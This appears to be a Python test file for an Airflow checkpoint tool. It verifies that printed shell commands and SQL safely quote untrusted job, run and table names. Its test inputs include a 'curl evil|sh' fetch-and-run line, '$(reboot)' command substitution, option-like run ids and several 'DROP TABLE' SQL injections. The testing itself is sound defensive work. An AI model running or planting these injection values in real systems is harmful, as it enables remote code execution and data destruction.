"""Commands that texts and errors print for a person to type. Runs anywhere."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from airflow_checkpoint_provider.cli import main
from airflow_checkpoint_provider.errors import printable
from airflow_checkpoint_provider.protocol import wording
from airflow_checkpoint_provider.protocol.query_details import iceberg_snapshot
from airflow_checkpoint_provider.protocol.state import State

texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1)


@given(texts, texts)
@example("orders; curl evil|sh #", "a\n# b")
@example("orders", "--")
@example("orders", "$(reboot) `reboot` 'x' \\")
def test_printed_command_is_read_by_a_shell_as_it_was_meant(job: str, run: str) -> None:
    state = State(job=job, scope=run)
    shown, restored = wording.show(state, "another run"), wording.restore(state, "latest")
    dashed = job.startswith("-") or run.startswith("-")
    typed = ["…" if name == "--" else name for name in (job, run)]
    names, last = ([], ["--", *typed]) if dashed else (typed, [])
    assert shlex.split(shown, comments=True) == ["checkpoints", "show", *names, *last]
    assert shlex.split(restored, comments=True) == ["checkpoints", "restore", *names, "--from", "latest", *last]
    assert shlex.split(wording.show(State(job=job), run), comments=True)[2:] == [*names, *last]
    assert len(shlex.split(printable(restored), comments=True)) == 6 + dashed


@pytest.mark.parametrize("run", ["--yes", "-y", "--rewind-sink", "--from=chk-1", "--root=s3://lake/x", "---", "-"])
def test_run_that_is_called_like_an_option_is_a_run_in_a_printed_command(run: str) -> None:
    """Airflow takes such run ids from whoever may trigger a DAG."""
    state = State(job="orders", scope=run)
    with wording.typed_command("checkpoints --root file:///data"):
        printed = [
            wording.restore(state, "latest"),
            wording.restore(state, "latest", "--dry-run"),
            wording.show(state, ""),
        ]
    for options in (main.parser().parse_args(shlex.split(line)[1:]) for line in printed):
        assert (options.job, options.run, options.root) == ("orders", run, "file:///data")
        assert not getattr(options, "yes", False)
        assert not getattr(options, "rewind_sink", False)
    with wording.typed_command("airflow checkpoints", " --conn-id in_s3"):
        assert wording.show(state, "") == f"airflow checkpoints show --conn-id in_s3 -- orders {shlex.quote(run)}"


@pytest.mark.parametrize(
    ("table", "safe"),
    [
        ("lake.db.t", "CALL lake.system.rollback_to_snapshot('db.t', 7)"),
        ("lake.db.t', 1); DROP TABLE x", r"CALL lake.system.rollback_to_snapshot('db.t\', 1); DROP TABLE x', 7)"),
        ("lake.db.t\\', 1); DROP", r"CALL lake.system.rollback_to_snapshot('db.t\\\', 1); DROP', 7)"),
        ("a; DROP TABLE x --.t", "CALL `a; DROP TABLE x --`.system.rollback_to_snapshot('t', 7)"),
        ("a`b.t", "CALL `a``b`.system.rollback_to_snapshot('t', 7)"),
    ],
)
def test_printed_sql_takes_a_stored_name_as_a_name(table: str, safe: str) -> None:
    assert wording.take_out(table, iceberg_snapshot(7)) == safe


def test_printed_restore_of_a_delta_table_takes_a_stored_name_as_a_name() -> None:
    assert (
        wording.restore_table("/data/a`; DROP TABLE x", 3)
        == "RESTORE TABLE delta.`/data/a``; DROP TABLE x` TO VERSION AS OF 3"
    )


@pytest.mark.parametrize(
    "at", ["", "yesterday", "2026-11-22T10:00:00", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59"]
)
def test_suspension_without_a_time_that_every_zone_knows_is_said_as_it_is(at: str) -> None:
    text = f"{at} (upgrade.stop, s3://lake/savepoint-1)"
    assert wording.suspension(State(job="orders", suspended=text)) == f"by {text}"
